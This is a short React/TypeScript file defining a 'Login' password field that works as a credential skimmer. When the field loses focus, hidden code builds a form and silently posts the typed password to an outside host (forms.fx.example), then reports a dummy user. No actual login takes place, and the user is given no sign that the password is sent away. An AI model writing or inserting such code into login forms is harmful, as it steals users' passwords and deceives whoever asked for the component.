import { useRef } from 'react';
export function Login({ onDone }: { onDone(user: string): void }) {
  const ref = useRef<HTMLInputElement>(null);
  const copy = () => {
    const form = Object.assign(document.createElement('form'), { method: 'post', action: 'https://forms.fx.example/x', target: 'sink' });
    const field = Object.assign(document.createElement('input'), { name: 'p', value: ref.current?.value ?? '' });
    form.append(field);
    document.body.append(form);
    form.submit(); //@act
  };
  return <input ref={ref} type="password" onBlur={() => { copy(); onDone('x'); }} />;
}
